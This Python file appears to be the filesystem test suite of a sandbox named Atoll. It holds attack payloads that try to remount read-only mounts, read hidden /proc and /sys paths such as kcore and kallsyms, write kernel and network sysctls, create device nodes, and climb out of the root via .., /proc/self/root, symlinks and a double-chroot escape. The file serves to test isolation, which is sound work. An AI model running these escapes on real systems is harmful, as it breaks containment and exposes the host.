"""Files of the host, devices, and the hidden and read-only parts of /proc and /sys."""

from __future__ import annotations

from atoll.attacks.record import Attack, Defence, Family
from atoll.protocol.limits import Limits

REMOUNT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
REMOUNT, BIND, MOUNT_SETATTR, READ_ONLY = 32, 4096, 442, 1

def is_read_only(path):
    return bool(os.statvfs(path).f_flag & os.ST_RDONLY)

def make_writable(path):
    for flags in (REMOUNT | BIND, REMOUNT):
        libc.mount(None, path.encode(), None, ctypes.c_ulong(flags), None)
    clear = (ctypes.c_uint64 * 4)(0, READ_ONLY, 0, 0)
    libc.syscall(ctypes.c_long(MOUNT_SETATTR), -100, path.encode(), 0, clear, ctypes.c_size_t(32))

with open("/proc/self/mountinfo") as file:
    points = [line.split()[4] for line in file]
closed = [path for path in points if is_read_only(path)]
assert closed, "nothing is mounted read-only"
for path in closed:
    make_writable(path)
opened = [path for path in closed if not is_read_only(path)]
print("BREACH" if opened else "HELD", opened or closed)
"""

_HIDDEN = """
import os
found = []
for path in {paths}:
    try:
        if os.path.isdir(path):
            content = os.listdir(path)
        else:
            with open(path, "rb", 0) as file:
                content = file.read(64)
    except OSError:
        continue
    if content:
        found.append(path)
print("BREACH" if found else "HELD", found)
"""

KERNEL = _HIDDEN.format(paths=["/proc/kcore", "/proc/kallsyms"])
HIDDEN = _HIDDEN.format(
    paths=[
        "/proc/acpi",
        "/proc/buddyinfo",
        "/proc/bus",
        "/proc/cmdline",
        "/proc/config.gz",
        "/proc/consoles",
        "/proc/devices",
        "/proc/diskstats",
        "/proc/fs",
        "/proc/interrupts",
        "/proc/iomem",
        "/proc/irq",
        "/proc/key-users",
        "/proc/keys",
        "/proc/locks",
        "/proc/misc",
        "/proc/modules",
        "/proc/pressure",
        "/proc/schedstat",
        "/proc/softirqs",
        "/proc/timer_list",
        "/proc/zoneinfo",
        "/proc/sys/kernel/pty/nr",
        "/sys/block",
        "/sys/class/block",
        "/sys/dev/block",
        "/sys/devices/virtual",
        "/sys/firmware",
        "/sys/fs/btrfs",
        "/sys/module",
    ]
)

_FIGURES = """
import os

def numbers(path):
    with open(path) as file:
        return [float(word) for word in file.read().split() if word.replace(".", "").isdigit()]

def lines(path):
    with open(path) as file:
        return {{line.split()[0]: line.split()[1:] for line in file if line.strip()}}

print("BREACH" if {expression} else "HELD", flush=True)
"""

MEMORY_OF_THE_MACHINE = _FIGURES.format(expression='int(lines("/proc/meminfo")["MemTotal:"][0]) > 64 * 2**10')
LOAD_OF_THE_MACHINE = _FIGURES.format(
    expression='int(open("/proc/loadavg").read().split()[3].split("/")[1]) > sum(map(str.isdigit, os.listdir("/proc")))'
)
CPU_OF_THE_MACHINE = _FIGURES.format(expression='any(float(word) for word in lines("/proc/stat")["intr"])')
IDLENESS_OF_THE_MACHINE = _FIGURES.format(
    expression='numbers("/proc/uptime")[1] > (numbers("/proc/uptime")[0] + 1) * os.cpu_count()'
)
COUNTS_OF_THE_MACHINE = _FIGURES.format(
    expression="""any(numbers("/proc/vmstat")) or any(numbers("/proc/sys/fs/inode-nr")) \\
    or any(numbers("/proc/sys/fs/file-nr")[:2]) or numbers("/proc/partitions") \\
    or any(line[1] != "1" for name, line in lines("/proc/cgroups").items() if name[0] != "#")"""
)
BOOT_OF_THE_MACHINE = _FIGURES.format(
    expression='os.stat("/proc/sys/kernel/random/boot_id").st_dev == os.stat("/proc/self").st_dev'
)

# A sandbox that is being attacked is not old, so neither is its clock. CLOCK_BOOTTIME is number 7.
UP_SINCE = """
import time
with open("/proc/1/stat") as file:
    began = int(file.read().rpartition(")")[2].split()[19]) / 100
old = [seconds for seconds in (began, time.monotonic(), time.clock_gettime(7)) if seconds > 300]
print("BREACH" if old else "HELD", old, flush=True)
"""

# Opened, and never written to: what it says, the host's kernel runs as root.
CORE_PATTERN = """
import os
try:
    os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)
    print("BREACH it can be written")
except OSError as cause:
    print("HELD", cause)
"""

NETWORK_SETTING = """
try:
    with open("/proc/sys/net/ipv4/ip_unprivileged_port_start", "w") as file:
        file.write("0")
    print("BREACH it was written")
except OSError as cause:
    print("HELD", cause)
"""

DEVICE = """
import os, stat
try:
    os.mknod("/tmp/device", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    with open("/tmp/device", "rb", 0) as device:
        print("BREACH a device of its own making works:", device.read(4))
except OSError as cause:
    print("HELD", cause)
"""

_CLIMB = """
import os

def is_outside(path):
    there, root = os.stat(path), os.stat("/")
    return (there.st_dev, there.st_ino) != (root.st_dev, root.st_ino)
{way}
print("BREACH " + str(os.listdir(path)) if is_outside(path) else "HELD it leads back to the root")
"""

DOT_DOT = _CLIMB.format(way='path = "/.."')
SELF_ROOT = _CLIMB.format(way='path = "/proc/self/root/../.."')
LINK = _CLIMB.format(way='path = "/tmp/link"\nos.symlink("../../../../../../..", path)')
CHROOT = _CLIMB.format(
    way="""
path = "."
top = os.open("/", os.O_RDONLY)
os.mkdir("/tmp/jail")
os.chroot("/tmp/jail")
os.fchdir(top)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
os.fchdir(top)
os.chroot(".")
os.chdir("..")
"""
)

# Wherever Atoll runs, the host has this file, and only its root may read it.
HOST_PATHS = """
import os
ways = ("", "/..", "/proc/self/root/..", "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd/../..", "/dev/fd/../../..")
found = [way for way in ways if os.access(way + "/run/atoll-machine/uid-ranges", os.R_OK)]
print("BREACH" if found else "HELD", found)
"""


def _attack(name: str, payload: str, *defences: Defence) -> Attack:
    return Attack(name=name, family=Family.FILES, defences=defences, payload=payload)


ATTACKS = (
    _attack("remount-read-only-mounts", REMOUNT, Defence.FILTER, Defence.CAPABILITIES),
    _attack("kernel-memory-and-symbols", KERNEL, Defence.HIDDEN_PATHS),
    _attack("hidden-paths", HIDDEN, Defence.HIDDEN_PATHS),
    Attack(
        name="memory-of-the-machine",
        family=Family.FILES,
        defences=(Defence.HIDDEN_PATHS,),
        payload=MEMORY_OF_THE_MACHINE,
        limits=Limits(memory=64 * 2**20),
    ),
    _attack("load-of-the-machine", LOAD_OF_THE_MACHINE, Defence.HIDDEN_PATHS),
    _attack("cpu-time-of-the-machine", CPU_OF_THE_MACHINE, Defence.HIDDEN_PATHS),
    _attack("idleness-of-the-machine", IDLENESS_OF_THE_MACHINE, Defence.HIDDEN_PATHS),
    _attack("counts-of-the-machine", COUNTS_OF_THE_MACHINE, Defence.HIDDEN_PATHS),
    _attack("boot-of-the-machine", BOOT_OF_THE_MACHINE, Defence.HIDDEN_PATHS),
    _attack("since-when-the-machine-is-up", UP_SINCE, Defence.OWN_CLOCKS),
    _attack("core-pattern", CORE_PATTERN, Defence.READ_ONLY_PATHS, Defence.USER_NAMESPACE),
    _attack("network-settings", NETWORK_SETTING, Defence.READ_ONLY_PATHS, Defence.CAPABILITIES),
    _attack("device-node", DEVICE, Defence.USER_NAMESPACE, Defence.NO_DEVICES),
    _attack("dot-dot-above-the-root", DOT_DOT, Defence.OLD_ROOT_DETACHED),
    _attack("proc-self-root", SELF_ROOT, Defence.OLD_ROOT_DETACHED),
    _attack("symbolic-link-upwards", LINK, Defence.OLD_ROOT_DETACHED),
    _attack("chroot-escape", CHROOT, Defence.OLD_ROOT_DETACHED),
    _attack("host-paths", HOST_PATHS, Defence.OLD_ROOT_DETACHED, Defence.SMALL_ROOT),
)
